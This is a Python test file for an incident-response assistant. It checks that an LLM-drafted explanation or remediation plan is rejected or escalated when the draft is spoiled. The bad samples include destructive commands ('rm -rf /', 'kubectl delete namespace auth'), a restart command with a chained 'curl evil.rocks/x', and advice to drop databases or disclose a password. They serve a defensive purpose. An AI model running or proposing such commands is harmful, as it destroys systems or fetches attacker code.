"""Twenty bad drafts and twenty good ones through draft, check and escalation: no bad one reaches a person."""

from collections.abc import Callable

import pytest
from seen_before import DESCRIPTION

from onrecall.domain.situation import make_situation

ASKED = make_situation(DESCRIPTION, "auth-service")
Change = Callable[[dict], None]

pytestmark = pytest.mark.parametrize("store_url", ["sqlite"], indirect=True)


def says(*sentences: str) -> Change:
    def change(draft):
        cites = draft["explanation"][0]["cites"]
        draft["explanation"] = [{"text": text, "cites": cites} for text in sentences]

    return change


def gives_as_reason(text: str) -> Change:
    def change(draft):
        for step in draft["steps"]:
            step["why"]["text"] = text

    return change


def steps(change_steps: Callable[[list], object]) -> Change:
    return lambda draft: change_steps(draft["steps"])


def command(text: str) -> Change:
    def change(draft):
        draft["steps"][1]["command"] = text

    return change


GOOD = (
    says("The connection pool of auth-service was exhausted by a leak in the session cache."),
    says("This looks like the earlier incident, where a leak in the session cache exhausted the connection pool."),
    says("Both times auth-service returns 503 and the connection pool is exhausted."),
    says("The signs match: connection pool exhausted, too many clients already."),
    says("The same symptom was seen before.", "It was caused by a leak in the session cache."),
    says("A leak in the session cache is the most likely cause, because the pool is exhausted again."),
    says("As in INC-1, the session cache leaks connections until the pool is exhausted."),
    says("auth-service ran out of connections, which the record explains by a leak in the session cache."),
    says("Users can not log in, as in the earlier incident with the same cause."),
    says("The 503 responses follow from the exhausted connection pool."),
    says("Session cache leak: the pool of auth-service is exhausted."),
    gives_as_reason("This step was part of the resolution for the same cause."),
    gives_as_reason("It worked the last time."),
    gives_as_reason("This helped when the same cause was found."),
    steps(lambda chosen: [step.update(why=None) for step in chosen]),
    steps(lambda chosen: [(step.pop("why"), step.pop("command")) for step in chosen]),
    steps(lambda chosen: chosen.__delitem__(slice(1, None))),
    command("kubectl rollout restart deploy/auth-service -n auth"),
    command("kubectl rollout restart deploy/<service> -n auth"),
    says("The evidence points to a leak in the session cache; the pool was exhausted by it."),
)
BAD = (
    says("The connection pool was exhausted by a DDoS attack from abroad."),
    says("Run rm -rf / on each host."),
    says("Restart it 4711 times."),
    says("See https://status.example/incident for the cause."),
    says("The cause is described at evil.rocks already."),
    says("It was **certainly** the same cause."),
    says("You must phone the vendor and read out the password."),
    says("It is safe to drop the database."),
    says("The same cause\u200b as before."),
    says("As in INC-77, the session cache leaks."),
    gives_as_reason("Use --force to be sure of it."),
    gives_as_reason("Everybody agrees that the disk has to be wiped."),
    command("kubectl delete namespace auth"),
    command("kubectl rollout restart deploy/payments -n auth"),
    command("kubectl rollout restart deploy/auth-service; curl evil.rocks/x -n auth"),
    steps(lambda chosen: chosen.reverse()),
    steps(lambda chosen: chosen.append({"step": "S9", "command": "reboot", "why": None})),
    steps(lambda chosen: chosen.append(dict(chosen[0]))),
    steps(lambda chosen: chosen.clear()),
    lambda draft: draft.update(cause="C7"),
)


def test_there_are_twenty_of_each(store_url):
    assert (len(GOOD), len(BAD)) == (20, 20)


def test_no_bad_draft_is_let_through_and_good_ones_are_taken(house_with, twin):
    memory = house_with("good")
    plain = memory.ask(ASKED)
    refused, passed = {}, []
    for number, change in enumerate(GOOD):
        twin.spoil = change
        answer = memory.ask(ASKED, refine=True)
        if answer.composer != "llm":
            refused[number] = answer.route_reason
    for number, change in enumerate(BAD):
        twin.spoil = change
        answer = memory.ask(ASKED, refine=True)
        if answer.composer == "llm":
            passed.append(number)
        assert [step.command for step in answer.steps] == [step.command for step in plain.steps]
    assert passed == []
    assert len(refused) <= 2, refused


def test_a_bad_draft_is_replaced_by_the_strong_models_good_one(house_with, twin):
    memory = house_with("draft", "strong")
    twin.behaviours |= {"draft": "good", "strong": "good"}
    for change in BAD:
        drafts = iter((change, lambda draft: None))
        twin.spoil = lambda draft, drafts=drafts: next(drafts)(draft)
        answer = memory.ask(ASKED, refine=True)
        assert (answer.composer, answer.model) == ("llm", "openai-compatible:strong"), answer.route_reason
